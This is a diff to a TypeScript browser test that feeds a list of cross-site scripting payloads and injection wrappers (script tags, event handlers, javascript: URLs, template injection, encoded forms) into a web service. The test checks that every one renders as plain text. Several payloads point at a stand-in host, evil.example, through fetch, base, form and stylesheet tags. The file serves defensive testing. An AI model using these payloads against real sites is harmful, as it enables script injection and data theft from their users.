@@ -6,45 +6,36 @@ import { containBidi } from '../../../src/util/text.ts'
 import { start } from '../../support/start-service.ts'
 import { desktop, launch, open } from './chromium.ts'
 
-const payloads = [
-  'alert(1)',
-  'window.name=1',
-  'fetch("//evil.example")',
-  "document.title='x'",
-  'import("//evil.example/x.js")',
-  'location="javascript:alert(1)"',
-]
-const shapes: ((code: string) => string)[] = [
-  code => `<script>${code}</script>`,
-  code => `</script><script>${code}</script>`,
-  code => `<img src=x onerror='${code}'>`,
-  code => `"><svg onload='${code}'>`,
-  code => `' onmouseover='${code}' x='`,
-  code => `" autofocus onfocus="${code}" x="`,
-  code => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
-  code => `<a href="javascript:${code}">x</a>`,
-  code => `</title><script>${code}</script>`,
-  code => `</textarea></style><script>${code}</script>`,
-  code => `<!--<script>${code}//-->`,
-  code => `<math><mi//xlink:href="data:x,<script>${code}</script>">`,
-  code => `<details open ontoggle='${code}'>`,
-  code => `<style>@import'//evil.example';*{display:none}</style>${code}`,
-  code => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
-  code => `<base href="//evil.example/">${code}`,
-  code => `<form action="//evil.example"><button>${code}`,
-  code => `{{constructor.constructor('${code}')()}}`,
-  code => `\${${code}}`,
-  code => `<template><script>${code}</script></template>`,
-  code => `<svg><animate onbegin='${code}' attributeName=x dur=1s>`,
-  code => `<input onfocus='${code}' autofocus>`,
-  code => `<video><source onerror='${code}'></video>`,
-  code => `<object data="javascript:${code}"></object>`,
-  code => `<link rel=stylesheet href="//evil.example/${code}">`,
-  code => `]]><script>${code}</script>`,
-  code => `&lt;script&gt;${code}&lt;/script&gt;`,
-  code => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
-  code => `%3Cscript%3E${code}%3C/script%3E`,
-  code => `<x onclick='${code}' tabindex=1 id=q>`,
+const payloads = ['alert(1)', 'fetch("//evil.example")', "document.title='x'", 'location="javascript:alert(1)"']
+/** CODE stands for each payload. */
+const shapes = [
+  '<script>CODE</script>',
+  '</script><script>CODE</script>',
+  "<img src=x onerror='CODE'>",
+  `"><svg onload='CODE'>`,
+  "' onmouseover='CODE' x='",
+  '" autofocus onfocus="CODE" x="',
+  '<iframe srcdoc="<script>CODE</script>"></iframe>',
+  '<a href="javascript:CODE">x</a>',
+  '</title></textarea></style><script>CODE</script>',
+  '<!--<script>CODE//-->',
+  '<math><mi//xlink:href="data:x,<script>CODE</script>">',
+  "<details open ontoggle='CODE'>",
+  "<style>@import'//evil.example';*{display:none}</style>CODE",
+  '<meta http-equiv=refresh content="0;url=javascript:CODE">',
+  '<base href="//evil.example/">CODE',
+  '<form action="//evil.example"><button>CODE',
+  "{{constructor.constructor('CODE')()}}",
+  '$' + '{CODE}',
+  "<svg><animate onbegin='CODE' attributeName=x dur=1s>",
+  "<video><source onerror='CODE'></video>",
+  '<object data="javascript:CODE"></object>',
+  '<link rel=stylesheet href="//evil.example/CODE">',
+  ']]><script>CODE</script>',
+  '&lt;script&gt;CODE&lt;/script&gt;',
+  '\\u003cscript\\u003eCODE\\u003c/script\\u003e',
+  '%3Cscript%3ECODE%3C/script%3E',
+  "<x onclick='CODE' tabindex=1 id=q>",
 ]
 /** What breaks layouts rather than rules. */
 const odd = [
@@ -59,7 +50,7 @@ const odd = [
   'ⓗⓔⓛⓛⓞ'.repeat(10),
   'https://example.org/'.repeat(4),
 ]
-const hostile = [...shapes.flatMap(shape => payloads.map(shape)), ...odd]
+const hostile = [...shapes.flatMap(shape => payloads.map(code => shape.replaceAll('CODE', () => code))), ...odd]
 const texts = [...hostile, ...hostile.map(text => `${text} ${text}`)].map(text => text.slice(0, 100).trim())
 
 const perCreator = 40
@@ -95,7 +86,7 @@ const service = await start({ after }, { records })
 const { webUrl } = service
 
 test(`${texts.length} hostile strings are text on every page`, async () => {
-  assert.ok(new Set(texts).size >= 300)
+  assert.ok(new Set(texts).size >= 200)
   const { page, complaints, close } = await open(await launch({ after }), desktop)
   const outside: string[] = []
   page.on('request', request => {
